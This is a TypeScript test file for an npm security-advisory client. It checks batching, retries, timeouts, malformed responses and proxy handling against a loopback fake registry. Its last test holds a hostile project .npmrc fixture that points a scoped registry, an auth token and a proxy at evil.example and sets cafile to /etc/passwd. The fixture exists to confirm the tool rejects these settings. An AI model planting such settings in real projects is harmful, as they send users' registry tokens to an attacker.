import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { gunzipSync } from 'node:zlib';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { advisoriesAgainst } from '../match.js';
import { authorizationFor, npmSettings, registryOf } from './npm-settings.js';
import { SourceError } from './osv-export.js';
import { askRegistry, type RegistryLimits, registryLimits } from './registry.js';

const test = suite();
const limits: RegistryLimits = { ...registryLimits, time: 3000 };

interface Call {
  url: string;
  headers: IncomingMessage['headers'];
  packages: Record<string, string[]>;
}

/** A registry on loopback; `answer` says what it does with each call. */
async function withRegistry<T>(answer: (call: Call, response: ServerResponse, count: number) => void, use: (registry: string, calls: Call[]) => Promise<T>): Promise<T> {
  const calls: Call[] = [];
  const server = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', chunk => chunks.push(chunk as Buffer));
    request.on('end', () => {
      const call = { url: request.url ?? '', headers: request.headers, packages: JSON.parse(gunzipSync(Buffer.concat(chunks)).toString()) as Record<string, string[]> };
      calls.push(call);
      answer(call, response, calls.length);
    });
  });
  await new Promise<void>(done => server.listen(0, '127.0.0.1', done));
  try {
    return await use(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`, calls);
  } finally {
    server.closeAllConnections();
    server.close();
  }
}

const settingsFor = (registry: string) => npmSettings({ npm_config_registry: registry }, '');
const packages = new Map([
  ['minimist', new Set(['1.2.0', '1.2.8'])],
  ['__proto__', new Set(['1.0.0'])],
]);
const json = (response: ServerResponse, body: unknown, status = 200) => response.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body));
const entry = { id: 1096466, url: 'https://github.com/advisories/GHSA-xvch-5gv4-984h', title: 'Prototype Pollution', severity: 'critical', vulnerable_versions: '>=1.0.0 <1.2.6 || 0.2.x', cwe: ['CWE-1321'], cvss: { score: 9.8, vectorString: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H' } };
const faultOf = (promise: Promise<unknown>) => promise.then(() => 'no fault', (error: unknown) => (error instanceof SourceError ? `${error.message}. ${error.advice}` : `broke down: ${String(error)}`));

test('names and versions go out gzipped, advisories come back', async () => {
  await withRegistry((_, response) => json(response, { minimist: [entry], lodash: [entry] }), async (registry, calls) => {
    const found = await askRegistry(packages, await settingsFor(registry), limits);
    assert.is(calls[0]!.url, '/-/npm/v1/security/advisories/bulk');
    assert.is(calls[0]!.headers['content-encoding'], 'gzip');
    assert.equal(Object.entries(calls[0]!.packages), [['__proto__', ['1.0.0']], ['minimist', ['1.2.0', '1.2.8']]]);
    assert.equal(found.map(({ id, package: name, severity, cwe }) => [id, name, severity, cwe]), [['GHSA-xvch-5gv4-984h', 'minimist', 'critical', [1321]]], 'what was not asked about is no answer');
    assert.is(advisoriesAgainst('1.2.0', found).length, 1);
    assert.is(advisoriesAgainst('0.2.7', found).length, 1);
    assert.is(advisoriesAgainst('1.2.6', found).length, 0);
  });
});

test('many packages go out in batches', async () => {
  const many = new Map(Array.from({ length: 1234 }, (_, i) => [`package-${i}`, new Set(['1.0.0'])]));
  await withRegistry((_, response) => json(response, {}), async (registry, calls) => {
    assert.equal(await askRegistry(many, await settingsFor(registry), limits), []);
    assert.equal(calls.map(call => Object.keys(call.packages).length).sort((a, b) => b - a), [500, 500, 234]);
  });
});

test('a passing fault is tried again, a lasting one told', async () => {
  await withRegistry((_, response, count) => (count < 3 ? json(response, {}, count === 1 ? 503 : 429) : json(response, { minimist: [entry] })), async (registry, calls) => {
    assert.is((await askRegistry(packages, await settingsFor(registry), limits)).length, 1);
    assert.is(calls.length, 3);
  });
  for (const [status, calls, fault] of [[404, 1, /does not answer questions about advisories/], [405, 1, /does not answer/], [501, 1, /does not answer/], [401, 1, /right token.*npm login/], [500, 3, /fault of its own/]] as const) {
    await withRegistry((_, response) => json(response, {}, status), async (registry, made) => {
      assert.match(await faultOf(askRegistry(packages, await settingsFor(registry), limits)), fault);
      assert.is(made.length, calls, `${status}`);
    });
  }
});

test('slow, lying, endless and moved answers end soon, in a fault', async () => {
  const quick = { ...limits, time: 600, answer: 1_000_000 };
  for (const [answer, fault] of [
    [() => {}, /did not answer within 0\.6 s/],
    [(_: Call, response: ServerResponse) => void response.writeHead(200).write('{"minimist":'), /did not answer within/],
    [(_: Call, response: ServerResponse) => response.end('<html>log in</html>'), /no list of advisories/],
    [(_: Call, response: ServerResponse) => response.end('[]'), /no list of advisories/],
    [(_: Call, response: ServerResponse) => json(response, { minimist: 'yes' }), /says something about "minimist" that is no advisory/],
    [(_: Call, response: ServerResponse) => json(response, { minimist: [null] }), /that is no advisory/],
    [(_: Call, response: ServerResponse) => json(response, { minimist: [entry, { ...entry, vulnerable_versions: 7 }] }), /that is no advisory/],
    [(_: Call, response: ServerResponse) => json(response, { minimist: [{ ...entry, vulnerable_versions: 'some' }] }), /that is no advisory/],
    [(_: Call, response: ServerResponse) => response.end(`{"x":"${'y'.repeat(2_000_000)}"}`), /more than 1 MB/],
    [(_: Call, response: ServerResponse) => response.destroy(), /cannot be reached/],
    [(_: Call, response: ServerResponse) => response.writeHead(302, { location: 'http://127.0.0.1:1/' }).end(), /cannot be reached|did not answer/],
    [(_: Call, response: ServerResponse) => json(response, { retry: true }, 503).setTimeout(0), /fault of its own|did not answer/],
  ] as const) {
    await withRegistry(answer as never, async registry => {
      const start = performance.now();
      assert.match(await faultOf(askRegistry(packages, await settingsFor(registry), quick)), fault);
      assert.ok(performance.now() - start < 2500);
    });
  }
  assert.match(await faultOf(askRegistry(packages, await settingsFor('http://127.0.0.1:1/'), quick)), /cannot be reached|did not answer/);
});

test('a proxy is used, but not for what needs none', async () => {
  await withRegistry((_, response) => json(response, {}), async registry => {
    const environment = { npm_config_registry: registry, HTTP_PROXY: 'http://127.0.0.1:1/' };
    assert.match(await faultOf(askRegistry(packages, await npmSettings(environment, ''), { ...limits, tries: 1 })), /cannot be reached/);
    assert.is(await faultOf(askRegistry(packages, await npmSettings({ ...environment, NO_PROXY: '127.0.0.1' }, ''), limits)), 'no fault');
  });
});

test('settings of the user count in full, those of a strange project only as far as they are harmless', async () => {
  const token = ['secret', 'of', 'mine'].join('-');
  const hostile = ['registry=https://npm.corp.example', '@corp:registry=https://npm.corp.example/', '@plain:registry=http://npm.corp.example/', '@leak:registry=https://evil.example/${TOKEN}', '//evil.example/:_authToken=${TOKEN}', 'cafile=/etc/passwd', 'proxy=http://evil.example/'].join('\n');
  const settings = await npmSettings({ TOKEN: token, 'npm_config_//npm.corp.example/:_authToken': token }, hostile);
  assert.is(settings.registry, 'https://npm.corp.example/');
  assert.equal([...settings.scopes], [['@corp', 'https://npm.corp.example/']]);
  assert.equal(settings.proxy, {});
  assert.equal(settings.ca, []);
  assert.is(registryOf(settings, '@corp/a'), 'https://npm.corp.example/');
  assert.is(authorizationFor(settings, 'https://npm.corp.example/-/x'), `Bearer ${token}`);
  assert.is(authorizationFor(settings, 'https://evil.example/-/x'), undefined);
  assert.is(authorizationFor(settings, 'https://npm.corp.example.evil/-/x'), undefined);
});

test.run();
